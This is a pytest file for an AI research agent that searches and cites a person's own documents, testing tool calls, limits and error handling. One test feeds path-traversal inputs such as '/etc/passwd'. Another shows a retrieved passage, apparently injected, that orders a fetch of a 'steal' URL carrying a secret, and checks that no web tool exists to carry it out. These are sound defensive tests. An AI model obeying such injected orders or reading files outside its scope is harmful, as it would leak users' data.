"""Researching the person's own documents, from the model's calls to the answer."""

from __future__ import annotations

import time
from collections.abc import Mapping
from typing import Any

import pytest

from kebab_core.testing.model import Call, Calls, Received, Say, ScriptedModel
from kebab_core.testing.script import Turn
from kebab_core.types import AskOptions, Filters
from tests.support.researching import BACKUP, LEAVE, QUESTION, STRONG, WEAK, Asker

TOOLS = ["search_corpus", "open_document", "list_documents"]
BACKUP_QUERY = "backup runs every night"


def look_for(query: str, id_: str | None = None) -> Call:
    return Call("search_corpus", {"query": query}, id=id_)


def results(received: Received) -> list[str]:
    """What tools said, in the last request's order."""
    return [one["content"] for one in received.messages if one["role"] == "tool"]


def test_a_straight_answer(asker: Asker) -> None:
    with ScriptedModel([[Say("It is 26 weeks [1].")]]) as model:
        ran = asker(model, STRONG)
        assert model.requests[0].tools == []
        assert "Searching further" not in model.requests[0].text
    assert ran.answer.retrieval.research == "skipped"
    assert ran.answer.retrieval.searches == 1
    assert ran.answer.citations[0].quote == LEAVE[0]


def test_one_round_and_then_an_answer_with_its_numbers(asker: Asker) -> None:
    turns: list[Turn] = [
        [Say("Let me look."), look_for(BACKUP_QUERY)],
        [Say("26 weeks [1], and backups run at two [2].")],
    ]
    with ScriptedModel(turns) as model:
        ran = asker(model)
        first, second = model.requests
    assert first.tools == second.tools == TOOLS
    assert "Searching further" in first.text
    assert BACKUP[0] in results(second)[0]
    assert results(second)[0].startswith('<passage n="2" title="Backup"')
    assert asker.queries == [QUESTION, BACKUP_QUERY]
    assert [(one.tool, one.query, one.error) for one in ran.tools] == [
        ("corpus", BACKUP_QUERY, None)
    ]
    assert "Let me look" not in ran.prose
    answer = ran.answer
    assert [one.citation.path for one in answer.citations] == ["hr/leave.md", "ops/backup.md"]
    assert [one.n for one in answer.sources] == [1, 2]
    assert (answer.retrieval.searches, answer.retrieval.research) == (2, "ran")


def test_known_passages_are_named_and_not_repeated(asker: Asker) -> None:
    turns: list[Turn] = [[look_for("weeks of parental leave at full pay")], [Say("26 [1].")]]
    with ScriptedModel(turns) as model:
        ran = asker(model)
        assert results(model.requests[1]) == ["Shown above already: [1]."]
    assert [one.n for one in ran.tools[0].hits] == [1]


@pytest.mark.parametrize("again", [BACKUP_QUERY, f" {BACKUP_QUERY.upper()} ", QUESTION])
def test_the_same_search_is_made_once(asker: Asker, again: str) -> None:
    turns: list[Turn] = [[look_for(BACKUP_QUERY)], [look_for(again)], [Say("At two [2].")]]
    with ScriptedModel(turns) as model:
        ran = asker(model)
        assert "You did that already" in results(model.requests[2])[1]
    assert asker.queries == [QUESTION, BACKUP_QUERY]
    assert ran.answer.retrieval.searches == 2
    assert len(ran.tools) == 2
    assert ran.tools[1].hits[0].n == (1 if again == QUESTION else 2)


def test_two_calls_in_one_turn(asker: Asker) -> None:
    calls = [look_for(BACKUP_QUERY, "a"), Call("open_document", {"path": "leave.md"}, id="b")]
    with ScriptedModel([[Calls(calls)], [Say("At two [2], in writing [3].")]]) as model:
        ran = asker(model)
        said = [one for one in model.requests[1].messages if one["role"] == "tool"]
    assert [one["tool_call_id"] for one in said] == ["a", "b"]
    assert [one.tool for one in ran.tools] == ["corpus", "open"]
    assert [one.citation.path for one in ran.answer.citations] == ["ops/backup.md", "hr/leave.md"]


def test_arguments_in_many_pieces(asker: Asker) -> None:
    pieces = list(f'{{"query": "{BACKUP_QUERY}"}}')
    with ScriptedModel([[Call("search_corpus", pieces)], [Say("At two [2].")]]) as model:
        assert asker(model).tools[0].query == BACKUP_QUERY


@pytest.mark.parametrize(
    ("call", "why"),
    [
        (Call("search_corpus", '{"query": "back'), "no valid JSON"),
        (Call("search_corpus", "{}"), "query is missing"),
        (Call("delete_corpus", "{}"), "There is no tool 'delete_corpus'"),
        (Call("web_search", {"query": "leave"}), "There is no tool 'web_search'"),
        (Call("open_document", {"path": "/etc/passwd"}), "No document is called"),
        (Call("open_document", {"path": "../../../hr/leave.md"}), "No document is called"),
        (Call("open_document", {"path": ""}), "path is missing"),
        (Call("open_document", {"path": "leave.md", "lines": "all"}), "lines must look like"),
    ],
)
def test_a_call_that_makes_no_sense_is_a_result(asker: Asker, call: Call, why: str) -> None:
    with ScriptedModel([[call], [Say("It is 26 weeks [1].")]]) as model:
        ran = asker(model)
        assert why in results(model.requests[1])[0]
    assert why in (ran.tools[0].error or "")
    assert ran.answer.grounding == "cited"
    assert ran.answer.retrieval.searches == 1


def test_a_search_that_fails_is_a_result(asker: Asker) -> None:
    def fail() -> None:
        raise RuntimeError("a secret")

    asker.before_search = fail
    with ScriptedModel([[look_for(BACKUP_QUERY)], [Say("It is 26 weeks [1].")]]) as model:
        ran = asker(model)
        assert results(model.requests[1]) == ["search_corpus failed (RuntimeError)."]
    assert ran.answer.grounded


def test_calls_for_ever_end_with_a_turn_without_tools(asker: Asker) -> None:
    def turn(received: Received) -> Turn:
        return [Say("Hm [1]."), look_for(f"backup {received.number}")]

    with ScriptedModel(turn) as model:
        ran = asker(model)
        assert [request.tools for request in model.requests] == [TOOLS, TOOLS, []]
    assert ran.answer.answer == "Hm [1]."
    assert ran.prose == "Hm [1]."


def test_six_steps_and_no_more(asker: Asker) -> None:
    calls = [look_for(f"backup number {i}", f"c{i}") for i in range(8)]
    with ScriptedModel([[Calls(calls)], [Say("At two [2].")]]) as model:
        ran = asker(model, {**WEAK, "ask.max_rounds": 9})
        assert [request.tools for request in model.requests] == [TOOLS, []]
        said = results(model.requests[1])
    assert len(asker.queries) == 1 + 6
    assert ["No more than 6" in one for one in said] == [False] * 5 + [True] * 3
    assert [bool(one.error) for one in ran.tools] == [False] * 6 + [True] * 2


def test_time_for_research_runs_out(asker: Asker) -> None:
    asker.before_search = lambda: time.sleep(0.3)
    calls = [look_for("backup", "a"), look_for("restores", "b")]
    with ScriptedModel([[Calls(calls)], [Say("It is 26 weeks [1].")]]) as model:
        ran = asker(model, {**WEAK, "ask.research_s": 0.05, "ask.max_rounds": 9})
        assert results(model.requests[1]) == ["Research time is over: answer now."] * 2
        assert [request.tools for request in model.requests] == [TOOLS, []]
    assert ran.answer.grounded


def test_a_full_context_is_said(asker: Asker) -> None:
    calls = [Call("open_document", {"path": "hr/leave.md"})]
    with ScriptedModel([calls, [Say("It is 26 weeks [1].")]]) as model:
        asker(model, {**WEAK, "ask.context_tokens": 1000})
        assert "context is full" in results(model.requests[1])[0]


def test_not_found_after_a_skipped_research_opens_the_tools(asker: Asker) -> None:
    turns: list[Turn] = [[Say("NOTFOUND")], [look_for(BACKUP_QUERY)], [Say("At two [2].")]]
    with ScriptedModel(turns) as model:
        ran = asker(model, STRONG)
        assert [request.tools for request in model.requests] == [[], TOOLS, TOOLS]
    assert ran.answer.answer == "At two [2]."
    assert ran.answer.retrieval.research == "ran"


@pytest.mark.parametrize(("gate", "reason"), [(WEAK, "score_gate"), (STRONG, "llm_self_judge")])
def test_not_found_after_research(asker: Asker, gate: Mapping[str, Any], reason: str) -> None:
    turns: list[Turn] = [[look_for(BACKUP_QUERY)], [Say("NOTFOUND")]]
    with ScriptedModel(turns) as model:
        ran = asker(model, {**gate, "ask.mode": "agentic"})
    assert ran.answer.refusal_reason == reason
    assert "twice" in ran.answer.answer
    assert ran.answer.retrieval.research == "ran"


def test_rounds_that_run_out_on_not_found(asker: Asker) -> None:
    def turn(received: Received) -> Turn:
        return [Say("NOTFOUND"), look_for(f"backup {received.number}")]

    with ScriptedModel(turn) as model:
        ran = asker(model, {**STRONG, "ask.mode": "agentic"})
        assert len(model.requests) == 3
    assert ran.answer.refusal_reason == "llm_self_judge"


def test_a_server_that_rejects_tools(asker: Asker) -> None:
    said: Turn = [Say("It is 26 weeks [1].")]
    with ScriptedModel([said], repeat=True, rejects=["tools"]) as model:
        ran = asker(model, {**STRONG, "ask.mode": "agentic"})
        assert ran.answer.answer == "It is 26 weeks [1]."
        posts = model.visits.count(("POST", "/v1/chat/completions"))
        assert (posts, len(model.requests)) == (2, 1)
        # Remembered: the next one is asked without at once.
        assert asker(model, {**STRONG, "ask.mode": "agentic"}).answer.grounded
        assert model.visits.count(("POST", "/v1/chat/completions")) == posts + 1


def test_a_weak_pack_and_a_server_that_rejects_tools(asker: Asker) -> None:
    with ScriptedModel([[Say("It is 26 weeks.")]], rejects=["tools"]) as model:
        for _ in range(2):
            ran = asker(model)
            assert ran.prose == ""
            assert ran.answer.refusal_reason == "score_gate"
        assert len(model.requests) == 1


def test_a_document_is_read_by_its_lines(asker: Asker) -> None:
    turns: list[Turn] = [
        [Call("open_document", {"path": "notes/hr/leave.md#L1-L2", "lines": "3-4"})],
        [Say("In writing [2].")],
    ]
    with ScriptedModel(turns) as model:
        ran = asker(model)
        assert LEAVE[1] in results(model.requests[1])[0]
        assert LEAVE[2] not in results(model.requests[1])[0]
    place = ran.answer.citations[0].citation
    assert (place.path, place.start, place.end) == ("hr/leave.md", 3, 3)


def test_documents_are_listed_within_the_filters(asker: Asker) -> None:
    turns: list[Turn] = [
        [
            Call("list_documents", "{}", id="a"),
            Call("list_documents", {"folder": "hr/"}, id="b"),
            Call("list_documents", {"folder": "nowhere"}, id="c"),
            Call("open_document", {"path": "visitors.md"}, id="d"),
        ],
        [Say("It is 26 weeks [1].")],
    ]
    options = AskOptions(filters=Filters(path_globs=("leave.md", "backup.md")))
    with ScriptedModel(turns) as model:
        asker(model, options=options)
        everything, folder, nowhere, filtered = results(model.requests[1])
    assert everything == "- notes/hr/leave.md — Leave\n- notes/ops/backup.md — Backup"
    assert folder == "- notes/hr/leave.md — Leave"
    assert nowhere == "(no documents)"
    assert filtered.startswith("No document is called 'visitors.md'")


def test_orders_in_a_passage_with_the_web_off(asker: Asker) -> None:
    turns: list[Turn] = [
        [look_for("visitors sign in")],
        [Call("fetch_page", {"url": "http://127.0.0.1:9/steal?d=secret"})],
        [Say("Visitors sign in [2].")],
    ]
    with ScriptedModel(turns) as model:
        ran = asker(model)
        assert "fetch http://127.0.0.1:9/steal" in results(model.requests[1])[0]
        assert all(request.tools in (TOOLS, []) for request in model.requests)
    assert "There is no tool 'fetch_page'" in (ran.tools[1].error or "")


def test_over_the_anthropic_protocol(asker: Asker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CLAUDE_KEY", "sk-test")
    calls = [look_for(BACKUP_QUERY, "toolu_1"), Call("nothing", "{}", id="toolu_2")]
    turns: list[Turn] = [
        [Say("Let me look."), Calls(calls)],
        [look_for("restores tested", "toolu_3")],
        [Say("At two [2].")],
    ]
    with ScriptedModel(turns) as model:
        settings = {
            **WEAK,
            "models.ask.model": "anthropic:claude-x",
            "providers.anthropic.base_url": model.origin,
            "providers.anthropic.api_key_env": "CLAUDE_KEY",
        }
        ran = asker(model, settings)
        assert [request.path for request in model.requests] == ["/v1/messages"] * 3
        blocks = model.requests[1].messages[-1]["content"]
    assert [block["tool_use_id"] for block in blocks] == ["toolu_1", "toolu_2"]
    assert ran.prose == "At two [2]."
    assert ran.answer.citations[0].citation.path == "ops/backup.md"
